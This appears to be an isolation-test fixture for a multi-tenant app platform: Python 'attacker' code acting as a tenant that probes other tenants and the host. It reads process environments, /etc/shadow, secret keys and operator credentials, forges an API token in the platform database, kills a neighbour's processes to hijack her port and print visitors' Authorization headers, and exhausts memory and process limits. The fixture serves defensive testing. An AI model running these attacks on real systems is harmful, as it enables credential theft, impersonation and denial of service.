"""The attacker's code: shipped in bob's app source, run inside his build, his app process and
his exec sessions. It reads ``targets.json`` (what the test knows about alice and the platform)
and tries every attack, printing one line ``ATTACK-RESULT <json>``: for each attack, whether the
operation went through (``ok``) and what it got (``evidence``: digests, never a judgement); the
test decides from the evidence whether the attack succeeded.

Only the standard library, run by ``/usr/bin/python3``: the platform's own interpreter is not
the tenant's to use.
"""

from __future__ import annotations

import contextlib
import hashlib
import http.server
import json
import os
import re
import signal
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

RESULT = "ATTACK" + "-RESULT"  # built, so a terminal's echo of the command does not match
EMAIL = re.compile(rb"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")


def digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def read(path: str, limit: int | None = None) -> bytes:
    with open(path, "rb") as f:
        return f.read(limit) if limit is not None else f.read()


def environ_digests(pid: int) -> str:
    """One digest per ``NAME=value`` of the process's environment."""
    return ",".join(sorted(digest(e) for e in read(f"/proc/{pid}/environ").split(b"\0") if e))


def emails_in(path: str) -> str:
    data = read(path)
    wal = Path(path + "-wal")
    if wal.exists():
        data += read(str(wal))
    return ",".join(sorted({m.decode() for m in EMAIL.findall(data)}))


def names_in(*folders: str) -> str:
    return ",".join(sorted(name for folder in folders for name in os.listdir(folder)))


def fetch(port: int, path: str = "/") -> str:
    """The body of ``GET path`` on ``port`` of loopback, straight, not through the router."""
    with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=5) as response:
        return response.read().decode()


def forge_token(db: str, email: str, context: str) -> str:
    """Insert an API token for ``email`` straight into the platform's database (tokens are
    stored as their SHA-256); the token, for the test to call the API with as that user."""
    import sqlite3

    token = f"mxt_bob-forged-{context}-{os.getpid()}-{time.time_ns()}"  # an API token's prefix
    connection = sqlite3.connect(f"file:{db}?mode=rw", uri=True, timeout=10)
    with contextlib.closing(connection) as conn, conn:
        conn.execute(
            "INSERT INTO api_tokens (user_id, name, token_hash, created_at)"
            " SELECT id, 'forged', ?, '2026-01-01T00:00:00Z' FROM users WHERE email = ?",
            (digest(token.encode()), email),
        )
    return token


def open_for_writing(path: str) -> str:
    """Opening for writing proves the right to write, without changing a byte."""
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return "opened"


def create(folder: str, name: str, text: str) -> str:
    with open(os.path.join(folder, name), "x") as f:
        f.write(text)
    return "written"


def send(pid: int, group: bool = False) -> str:
    """SIGCONT: delivered like any signal (same permission checks), harmless to a runner."""
    (os.killpg if group else os.kill)(pid, signal.SIGCONT)
    return "sent"


def processes_named(word: str) -> str:
    """The pids whose command line contains ``word``, as ``ps`` shows them."""
    out = subprocess.run(
        ["ps", "ax", "-o", "pid=,args="], capture_output=True, text=True, timeout=10
    ).stdout
    return ",".join(line.split()[0] for line in out.splitlines() if word in line)


def setuid_euid() -> str:
    """The effective uid of a setuid-root program (su, waiting for a password) as it runs:
    ``Popen`` returns once it has been executed."""
    su = subprocess.Popen(
        ["/usr/bin/su"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        status = read(f"/proc/{su.pid}/status").decode()
        if su.poll() is not None:
            raise RuntimeError(f"su exited with {su.returncode} before it could be seen")
        return next(line.split()[2] for line in status.splitlines() if line.startswith("Uid:"))
    finally:
        su.kill()
        su.communicate()


def capabilities() -> str:
    status = read("/proc/self/status").decode()
    return next(line.split()[1] for line in status.splitlines() if line.startswith("CapEff:"))


def attacks(t: dict[str, Any], context: str) -> dict[str, Callable[[], str]]:
    files: dict[str, str] = t["files"]
    mark = f"bob-was-here-{context}"
    return {
        "read-alice-environ": lambda: environ_digests(t["alice_pid"]),
        "read-platform-environ": lambda: environ_digests(t["platform_pid"]),
        "read-platform-db": lambda: emails_in(files["db"]),
        "read-secrets-key": lambda: digest(read(files["secrets_key"])),
        "read-bootstrap-password": lambda: digest(read(files["bootstrap"])),
        "read-server-log": lambda: digest(read(files["server_log"], 64)),
        "read-operator-credentials": lambda: digest(read(files["operator_credentials"])),
        "read-alice-source": lambda: digest(read(files["alice_source"])),
        "read-etc-shadow": lambda: digest(read("/etc/shadow")),
        "list-data-dir": lambda: names_in(t["data_dir"]),
        "list-other-tenants": lambda: names_in(*t["tenant_dirs"]),
        "read-host-tmp": lambda: digest(read(files["host_tmp"])),
        "write-alice-release": lambda: create(t["alice_release"], mark, mark),
        "write-alice-home": lambda: create(t["alice_home"], mark, mark),
        "write-operator-home": lambda: create(t["operator_config"], mark, mark),
        "write-build-cache": lambda: create(t["build_cache"], mark, mark),
        "write-platform-db": lambda: open_for_writing(files["db"]),
        "forge-alice-token": lambda: forge_token(files["db"], t["alice_email"], context),
        "write-platform-code": lambda: open_for_writing(files["platform_code"]),
        "write-etc": lambda: open_for_writing("/etc/hosts"),
        "ps-sees-platform": lambda: processes_named("maxlocal"),
        "see-alice-process": lambda: read(f"/proc/{t['alice_pid']}/cmdline").decode(),
        "signal-alice": lambda: send(t["alice_pid"]),
        "signal-alice-group": lambda: send(t["alice_pid"], group=True),
        "signal-platform": lambda: send(t["platform_pid"]),
        "reach-alice-directly": lambda: fetch(t["alice_port"]),
        "reach-platform-api": lambda: fetch(t["platform_port"], "/api/v1/health"),
        "reach-host-loopback": lambda: fetch(t["host_server_port"]),
        "run-as-root": lambda: str(os.geteuid()),
        "setuid-gives-root": setuid_euid,
        "capabilities": capabilities,
    }


def run_all(context: str) -> dict[str, dict[str, Any]]:
    targets = json.loads(Path(__file__).with_name("targets.json").read_text())
    results: dict[str, dict[str, Any]] = {}
    for name, attack in attacks(targets, context).items():
        try:
            results[name] = {"ok": True, "evidence": attack()}
        except Exception as exc:  # the refusal is the result
            results[name] = {"ok": False, "evidence": f"{type(exc).__name__}: {exc}"}
    return results


def report(context: str) -> str:
    return f"{RESULT} {json.dumps({'context': context, 'results': run_all(context)})}"


TAKEOVER = "TAKE" + "OVER"


def take_over(hold_s: float) -> None:
    """The route takeover of the issue: kill alice's process group, bind her port the moment
    it is free, and serve bob's page there, printing the ``Authorization`` of every visitor."""
    targets = json.loads(Path(__file__).with_name("targets.json").read_text())
    try:
        os.killpg(targets["alice_pid"], signal.SIGKILL)
        print(TAKEOVER, "killed", flush=True)
    except OSError as exc:
        print(TAKEOVER, "kill refused:", exc, flush=True)
    deadline = time.monotonic() + 5
    while True:
        try:
            server = http.server.ThreadingHTTPServer(("127.0.0.1", targets["alice_port"]), Handler)
            break
        except OSError as exc:
            if time.monotonic() > deadline:
                print(TAKEOVER, "bind refused:", exc, flush=True)
                return
            time.sleep(0.005)
    print(TAKEOVER, "bound", flush=True)
    server.timeout = 0.1
    end = time.monotonic() + hold_s
    while time.monotonic() < end:
        server.handle_request()


class Handler(http.server.BaseHTTPRequestHandler):
    """Bob's app: ``/attack`` runs every attack from the app process; anything else is his
    page, and a visitor's ``Authorization`` is printed (stolen, on a taken-over port)."""

    def do_GET(self) -> None:
        if self.headers.get("Authorization"):
            print(TAKEOVER, "stole", self.headers["Authorization"], flush=True)
        if self.path == "/attack":
            body = report("app").encode()
        elif self.path.startswith("/memory/"):
            body = hog_memory(int(self.path.rsplit("/", 1)[1])).encode()
        else:
            body = b"bob's page"
        answer(self, body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


def answer(handler: http.server.BaseHTTPRequestHandler, body: bytes) -> None:
    """A 200 with ``body``."""
    handler.send_response(200)
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def hog_memory(mib: int) -> str:
    """Allocate and touch ``mib`` MiB, 16 at a time, saying how far it got; let go at the end."""
    held = []
    for done in range(16, mib + 1, 16):
        held.append(b"\x01" * (16 << 20))
        print("MEMORY", done, flush=True)
    said = f"MEMORY held {mib}"
    print(said, flush=True)
    return said


def fork_many(count: int) -> None:
    """Start ``count`` sleeping processes (as far as the kernel lets), then end them."""
    children: list[int] = []
    error = ""
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError as exc:
            error = f"{type(exc).__name__}: {exc}"
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    print("PROCESSES", len(children), error, flush=True)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


def main(argv: list[str]) -> int:
    if argv[:1] == ["serve"]:
        print("bob's app up", flush=True)
        server = http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler)
        server.serve_forever()
    if argv[:1] == ["memory"]:
        hog_memory(int(argv[1]))
        return 0
    if argv[:1] == ["processes"]:
        fork_many(int(argv[1]))
        return 0
    if argv[:1] == ["takeover"]:
        take_over(float(argv[1]))
        return 0
    print(report(argv[0] if argv else "command"), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
